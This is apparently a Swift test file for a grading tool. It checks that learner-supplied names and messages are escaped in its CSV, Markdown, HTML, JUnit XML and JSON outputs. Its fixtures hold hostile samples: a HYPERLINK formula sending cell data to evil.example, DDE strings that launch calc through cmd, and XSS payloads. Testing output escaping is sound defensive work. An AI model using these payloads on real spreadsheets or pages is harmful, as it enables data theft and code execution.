import Foundation
import FoundationXML
import Testing

@testable import CoachKit

/// Names and messages a learner controls, in every format coach writes: none may become a formula, markup,
/// a link or a broken document.
@Suite("Learner text in the gradebook and feedback")
struct OutputInjectionTests {
    static let hostileName = #"=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script>"#
    static let hostileMessage =
        "Expected \"<img src=x onerror=alert(1)>\" ``` [link](javascript:alert(1)) ]]> &amp; \u{1B}[31m"

    func result(workbench: Workbench) -> LearnerResult {
        let failing = TestOutcome(
            id: "Section1BasicsTests.names_things()", displayName: "names things", result: .failed,
            issues: [Self.hostileMessage])
        let run = WorkbenchFixture.run(["adds numbers": .passed], extra: [failing])
        let grade = SectionGrade(section: workbench.course.sections[0], run: run, workbench: workbench)
        var result = LearnerResult(
            submission: Submission(learner: Self.hostileName, source: "/s/x"), grades: [grade], intake: nil)
        result.tampering = [TamperedFile(path: "Tests/-2+3*cmd|' /C calc'!A0.swift", change: .added)]
        result.problem = "@SUM(1+1)*cmd|' /C calc'!A0"
        result.forgedResults = ["+2 records without the grading harness's seal"]
        return result
    }

    @Test("no CSV cell begins as a formula: =, +, -, @, tab and carriage return are written as text")
    func csvCells() throws {
        let workbench = try WorkbenchFixture.make()
        let csv = Gradebook(course: workbench.course, learners: [result(workbench: workbench)]).csv()
        let row = try CSVLine.fields(of: String(csv.split(separator: "\n")[1]))
        #expect(row[0] == "'" + Self.hostileName)
        #expect(row[4] == "Tests/-2+3*cmd|' /C calc'!A0.swift (added)")
        #expect(row[5] == "'@SUM(1+1)*cmd|' /C calc'!A0")
        #expect(row.allSatisfy { cell in cell.first.map { !"=+-@\t\r".contains($0) } ?? true })
        #expect(CSVLine.field("-3") == "'-3" && CSVLine.field("\tx") == "'\tx" && CSVLine.field("plain") == "plain")
    }

    @Test("the Markdown page shows the name escaped and messages in code blocks no message can close")
    func markdown() throws {
        let workbench = try WorkbenchFixture.make()
        let page = LearnerFeedback(result: result(workbench: workbench), course: workbench.course).markdown()
        // Outside code blocks no markup is left; inside them a renderer shows it as text.
        let prose = page.components(separatedBy: "````").enumerated().filter { $0.offset % 2 == 0 }.map(\.element)
            .joined()
        #expect(!prose.contains("<script>") && !prose.contains("<img") && !prose.contains("](javascript"))
        #expect(page.contains(#"&lt;script&gt;alert\(1\)&lt;/script&gt;"#))
        #expect(
            page.contains(
                "  ````text\n  Expected \"<img src=x onerror=alert(1)>\" ``` [link](javascript:alert(1)) ]]> &amp; ^[[31m\n  ````"
            ))
    }

    @Test("the HTML page escapes every learner text")
    func html() throws {
        let workbench = try WorkbenchFixture.make()
        let page = LearnerFeedback(result: result(workbench: workbench), course: workbench.course).html()
        #expect(!page.contains("<script>") && !page.contains("<img") && !page.contains("\u{1B}"))
        #expect(page.contains("&lt;img src=x onerror=alert(1)&gt;"))
    }

    @Test("the JUnit XML stays one well-formed document that gives back the learner's text as it was")
    func junit() throws {
        let workbench = try WorkbenchFixture.make()
        let result = result(workbench: workbench)
        let xml = MachineReport(track: .exercises, grades: result.grades(in: workbench.course)).junit(
            suiteName: result.learner)
        final class Collector: NSObject, XMLParserDelegate {
            var names: [String] = []
            var text = ""
            func parser(
                _ parser: XMLParser, didStartElement element: String, namespaceURI: String?, qualifiedName: String?,
                attributes: [String: String] = [:]
            ) {
                if let name = attributes["name"] { names.append(name) }
            }
            func parser(_ parser: XMLParser, foundCharacters string: String) { text += string }
        }
        let collector = Collector()
        let parser = XMLParser(data: Data(xml.utf8))
        parser.delegate = collector
        #expect(parser.parse(), "the document does not parse: \(String(describing: parser.parserError))")
        #expect(collector.names.first == "Persistence Workbench: \(Self.hostileName)")
        #expect(collector.text.contains("Expected \"<img src=x onerror=alert(1)>\""))
    }

    @Test("the JSON gradebook keeps the learner's text as data and reads back the same")
    func json() throws {
        let workbench = try WorkbenchFixture.make()
        let gradebook = Gradebook(course: workbench.course, learners: [result(workbench: workbench)])
        let decoded = try JSONDecoder().decode(Gradebook.self, from: Data(try gradebook.json().utf8))
        #expect(decoded == gradebook)
        #expect(decoded.learners.first?.forgedResults == ["+2 records without the grading harness's seal"])
    }
}
